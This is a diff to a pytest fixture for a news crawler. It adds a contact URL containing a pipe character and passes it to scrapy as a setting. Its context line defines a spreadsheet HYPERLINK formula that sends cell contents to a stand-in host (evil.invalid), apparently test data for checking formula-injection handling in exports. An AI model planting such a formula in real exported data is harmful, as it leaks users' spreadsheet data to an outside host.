@@ -23,6 +23,7 @@ if TYPE_CHECKING:
     from pathlib import Path
 
 FORMULA = '=HYPERLINK("https://evil.invalid/?x="&A1,"Click, here")'
+CONTACT = "https://example.org/crawl|er"
 IMPATIENT = {
     "NEWSCRAWL_REVISIT_AFTER": "0s",
     "NEWSCRAWL_GONE_AFTER": "0s",
@@ -57,7 +58,7 @@ def history(_processes: None, tmp_path_factory: pytest.TempPathFactory) -> Histo
         demo.edit(edited, locale="en", title=FORMULA)
         demo.remove(removed)
         for _ in range(2):
-            scrapy(command, data)
+            scrapy([*command, "-s", f"NEWSCRAWL_CONTACT={CONTACT}"], data)
     assert data.scalar("SELECT count(*) FROM articles WHERE status = 'gone'") == 2
     return History(data.folder, first_crawl, edited, removed)
 
